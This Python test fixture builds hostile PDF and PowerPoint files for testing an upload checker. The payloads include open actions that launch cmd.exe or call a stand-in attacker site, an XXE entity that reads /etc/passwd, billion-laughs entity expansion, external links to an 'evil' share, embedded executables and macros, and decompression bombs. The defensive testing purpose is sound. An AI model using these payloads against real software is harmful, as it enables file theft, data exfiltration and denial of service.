"""Hostile decks for tests: what is in each, and what its sender reads. Each is made when it is asked for."""

import io
import random
import zipfile
from functools import partial

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from rpptx import Presentation

from tests import hostile_files, sent_files
from tests.matchmaker.deals.decks.decked import pdf
from tests.office_files import document, workbook

DRAWN, TYPE = "drawn", "type"  # its pages are shown without what does harm; the form names the types it takes
SITE = "https://qanatevil.example/"


def page(key, value):
    return lambda made: made.pages[0].obj.__setitem__(key, value)


def root(key, value):
    return lambda made: made.Root.__setitem__(key, value)


def contents(words):
    return lambda made: made.pages[0].obj.__setitem__("/Contents", made.make_stream(words))


def resource(kind, value, words):
    """Let the first page draw with something of its resources."""

    def change(made):
        made.pages[0].obj.Resources = Dictionary({kind: Dictionary({"/X1": made.make_indirect(value(made))})})
        contents(words)(made)

    return change


def form(made, words, inner=None):
    names = Dictionary(XObject=Dictionary(X1=inner)) if inner is not None else Dictionary()
    box = Array([0, 0, 900, 900])
    return made.make_indirect(
        Stream(made, words, Type=Name.XObject, Subtype=Name.Form, BBox=box, Resources=names)
    )


def nested(levels, times):
    """Forms that draw the next one so many times each."""

    def value(made):
        inner = form(made, b"0 0 1 rg 10 10 300 300 re f")
        for _level in range(levels):
            inner = form(made, b"/X1 Do " * times, inner)
        return inner

    return resource("/XObject", value, b"/X1 Do")


def itself(made):
    drawn = form(made, b"/X1 Do /X1 Do")
    drawn.Resources = Dictionary(XObject=Dictionary(X1=drawn))
    return drawn


def image(width, height, data=b"\0" * 100, **more):
    values = {"Width": width, "Height": height, "ColorSpace": Name.DeviceGray, "BitsPerComponent": 8}
    kinds = {"Type": Name.XObject, "Subtype": Name.Image}
    return resource(
        "/XObject", lambda made: Stream(made, data, **kinds, **values, **more), b"900 0 0 500 0 0 cm /X1 Do"
    )


def tiling(step):
    kinds = {"Type": Name.Pattern, "PatternType": 1, "PaintType": 1, "TilingType": 1}
    box = {"BBox": Array([0, 0, 1, 1]), "XStep": step, "YStep": step, "Resources": Dictionary()}
    words = b"/Pattern cs /X1 scn 0 0 960 540 re f"
    return resource("/Pattern", lambda made: Stream(made, b"1 0 0 rg 0 0 1 1 re f", **kinds, **box), words)


def font(name, data):
    def value(made):
        described = Dictionary(
            Type=Name.FontDescriptor, FontName=Name.X, Flags=4, **{name: Stream(made, data)}
        )
        return Dictionary(Type=Name.Font, Subtype=Name.TrueType, BaseFont=Name.X, FontDescriptor=described)

    return resource("/Font", value, b"BT /X1 40 Tf 60 200 Td (Smart) Tj ET")


def count_of_a_million(made):
    made.Root.Pages.Count = 1_000_000


def loop(made):
    made.Root.Pages.Kids.append(made.Root.Pages)


def slides(number=1, change=None, width=9_144_000, height=5_143_500):
    made = Presentation()
    for at in range(number):
        slide = made.slides.add_slide(made.slide_layouts[1])
        slide.shapes.title.text = f"Smart irrigation {at}"
    made.slide_width, made.slide_height = width, height
    content = made.to_bytes()
    if change is None:
        return content
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, value in parts.items():
            archive.writestr(name, value)
    return written.getvalue()


SLIDE, RELS, TYPES = "ppt/slides/slide1.xml", "ppt/slides/_rels/slide1.xml.rels", "[Content_Types].xml"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def related(kind, target, *, outside=False, content=b""):
    """Let the first slide refer to something."""

    def change(parts):
        mode = ' TargetMode="External"' if outside else ""
        line = f'<Relationship Id="rId99" Type="{OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>'
        parts[RELS] = parts[RELS].replace(b"</Relationships>", line.encode())
        parts[SLIDE] = parts[SLIDE].replace(b"</p:sld>", b'<p:x r:id="rId99"/></p:sld>')
        if content:
            parts["ppt/" + target.removeprefix("../")] = content

    return change


def replaced(name, old, new):
    return lambda parts: parts.__setitem__(name, parts[name].replace(old, new))


def with_part(name, content):
    return lambda parts: parts.__setitem__(name, content)


def cut(content, share):
    return content[: int(len(content) * share)]


def noise(start, size=20_000):
    return start + random.Random(1).randbytes(size)  # noqa: S311  the same each time


def act(kind, **more):
    return Dictionary(S=Name(f"/{kind}"), **more)


def packed(content, **saving):
    with pikepdf.open(io.BytesIO(content)) as opened:
        written = io.BytesIO()
        opened.save(written, **saving)
    return written.getvalue()


ACTS = {
    "script on opening": act("JavaScript", JS=String(f"app.launchURL('{SITE}')")),
    "program on opening": act("Launch", F=String("cmd.exe")),
    "form sent on opening": act("SubmitForm", F=String(SITE)),
    "file elsewhere on opening": act("GoToR", F=String(r"\\evil\share\x"), D=Array([0, Name.Fit])),
    "data fetched on opening": act("ImportData", F=String(SITE)),
    "film on opening": act("Rendition", JS=String("app.alert(1)")),
}


def many(pages):
    made = pikepdf.new()
    for _page in range(pages):
        made.add_blank_page()
    written = io.BytesIO()
    made.save(written, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return written.getvalue()


def of_pdf(what, expected, change=None, pages=2):
    return what, "deck.pdf", partial(pdf, pages, change=change), expected


def of_slides(what, expected, change=None, number=1, **options):
    return what, "deck.pptx", partial(slides, number, change, **options), expected


def raw(what, expected, make, name="deck.pdf"):
    return what, name, make, expected


def later(make):
    """A change that is made when it is needed: it is large."""
    return lambda changed: make()(changed)


def box(width, height):
    return page("/MediaBox", Array([0, 0, width, height]))


def key(owner, user):
    return lambda: packed(pdf(), encryption=pikepdf.Encryption(owner=owner, user=user))


ON_PAGE = Dictionary(O=ACTS["script on opening"])
LINE, FAX, WAVE = b"0 0 m 900 500 l S\n", Name.CCITTFaxDecode, Name.JPXDecode
XFA = Dictionary(XFA=String("<x/>"))
PDFS = [
    *[of_pdf(what, DRAWN, root("/OpenAction", value)) for what, value in ACTS.items()],
    of_pdf("scripts of a page", DRAWN, page("/AA", ON_PAGE)),
    of_pdf("attached file", DRAWN, lambda made: made.attachments.__setitem__("a.exe", b"MZ")),
    of_pdf("form of another kind (XFA)", DRAWN, root("/AcroForm", XFA)),
    of_pdf("bomb", "large", later(lambda: hostile_files.bomb(1))),
    of_pdf("bomb in a bomb", "large", later(lambda: hostile_files.bomb(2))),
    of_pdf("bomb in three bombs", "large", later(lambda: hostile_files.bomb(3))),
    of_pdf("eight streams of 120 MB", "large", later(lambda: hostile_files.streams(8, 120))),
    of_pdf("loop of pages", "damaged", loop),
    of_pdf("count of a million pages", DRAWN, count_of_a_million),
    of_pdf("61 pages", "long", pages=61),
    of_pdf("501 pages", "long", pages=501),
    raw("10,000 pages", "long", partial(many, 10_000)),
    of_pdf("no pages", "damaged", pages=0),
    raw("password to read", "locked", key("a", "b")),
    raw("password to change", "locked", key("a", "")),
    raw("also an archive", "damaged", lambda: pdf() + sent_files.slides()),
    raw("also a page", "damaged", lambda: pdf() + b"<script>alert(1)</script>"),
    raw("also a picture", TYPE, lambda: b"GIF89a" + pdf()),
    raw("half of it", "damaged", lambda: cut(pdf(20), 0.5)),
    raw("nearly all of it", "damaged", lambda: cut(pdf(20), 0.99)),
    raw("a head alone", "damaged", lambda: b"%PDF-1.7\n%%EOF\n"),
    raw("noise", "damaged", lambda: noise(b"%PDF-1.7\n") + b"\n%%EOF\n"),
    raw("empty", TYPE, lambda: b""),
    raw("program", TYPE, lambda: b"MZ" + b"\0" * 500),
    raw("web page", TYPE, lambda: b"<!doctype html><script>alert(1)</script>"),
    raw("picture under this name", TYPE, lambda: sent_files.picture("PNG")),
    raw("PDF under another name", "damaged", pdf, "deck.pptx"),
    raw("PDF as a program", "damaged", pdf, "deck.exe"),
    of_pdf("huge picture", "large", image(60_000, 60_000)),
    of_pdf("picture of more than it has", DRAWN, image(9_000, 9_000)),
    of_pdf("picture of no size", DRAWN, image(0, 0)),
    of_pdf("picture of negative size", DRAWN, image(-5, 9)),
    of_pdf("page of 400 km", DRAWN, box(1e9, 1e9)),
    of_pdf("page like a thread", "damaged", box(14_400, 3)),
    of_pdf("page of no size", DRAWN, box(0, 0)),
    of_pdf("page without a box", DRAWN, page("/MediaBox", Array([]))),
    of_pdf("page turned by 45°", DRAWN, page("/Rotate", 45)),
    of_pdf("units of a kilometre", DRAWN, page("/UserUnit", 75_000)),
    of_pdf("form that draws itself twice", "heavy", resource("/XObject", itself, b"/X1 Do")),
    of_pdf("ten times ten forms, nine deep", "heavy", nested(9, 10)),
    of_pdf("forms, 400 deep", DRAWN, nested(400, 1)),
    of_pdf("tiles of a point", DRAWN, tiling(1)),
    of_pdf("tiles of nothing", DRAWN, tiling(0)),
    of_pdf("millions of lines", "heavy", later(lambda: contents(LINE * 3_000_000))),
    of_pdf("operators without end", DRAWN, later(lambda: contents(b"q " * 2_000_000))),
    of_pdf("no operators", DRAWN, contents(noise(b""))),
    of_pdf("font that is noise", DRAWN, font("FontFile2", noise(b"\0\1\0\0"))),
    of_pdf("old font that is noise", DRAWN, font("FontFile", noise(b"%!PS"))),
    of_pdf("unknown packing", DRAWN, image(9, 9, Filter=Name.Crypt)),
    of_pdf("wave picture that is noise", DRAWN, image(900, 900, noise(b"\0"), Filter=WAVE)),
    of_pdf("fax that is noise", DRAWN, image(900, 900, noise(b"\0"), Filter=FAX)),
    of_pdf("deep structure", "large", page("/Group", hostile_files.deep(400))),
    raw("31 MB", "size", lambda: pdf() + b"\n" * 31 * 1024 * 1024),
]
PPTX = "deck.pptx"
LAUGHS = b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><p:sld '
READS = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><p:sld '
PRESENTATIONS = [
    of_slides("61 slides", "long", number=61),
    of_slides("entities in entities", "active", replaced(SLIDE, b"<p:sld ", LAUGHS)),
    of_slides("reads a file", "active", replaced(SLIDE, b"<p:sld ", READS)),
    of_slides("macro", "active", related("vbaProject", "../vbaProject.bin", content=b"macro")),
    of_slides("object", "active", related("oleObject", "../embeddings/a.bin", content=b"MZ")),
    of_slides("film", "active", related("video", SITE, outside=True)),
    of_slides("picture elsewhere", "active", related("image", SITE, outside=True)),
    of_slides("file elsewhere", "active", related("image", "file:///etc/passwd", outside=True)),
    of_slides("slide elsewhere", "active", related("slide", r"\\evil\share", outside=True)),
    of_slides(
        "bomb of 300 MB", "large", later(lambda: with_part(SLIDE, b"<a>" + b" " * 300_000_000 + b"</a>"))
    ),
    of_slides("5,001 parts", "large", lambda parts: parts.update({f"a/{n}": b"" for n in range(5001)})),
    of_slides("no slides", "undrawn", number=0),
    of_slides("slide that is noise", "damaged", with_part(SLIDE, noise(b"<"))),
    of_slides("slide that is no slide", "undrawn", with_part(SLIDE, b"<a/>")),
    of_slides("no list of types", "damaged", lambda parts: parts.pop(TYPES)),
    of_slides("slide like a thread", "damaged", width=51_206_400, height=914_400),
    raw("half of it", "damaged", lambda: cut(slides(), 0.5), PPTX),
    raw("noise", "damaged", lambda: noise(b"PK\x03\x04"), PPTX),
    raw("old presentation", TYPE, lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, PPTX),
    raw("document under this name", "damaged", document, PPTX),
    raw("workbook under this name", "damaged", workbook, PPTX),
    raw("presentation as a PDF", "damaged", slides),
    raw("macro file", "damaged", slides, "deck.pptm"),
]


def hostile_decks():
    """Return (what it is, its name, the maker of its content, what its sender reads)."""
    return PDFS + PRESENTATIONS
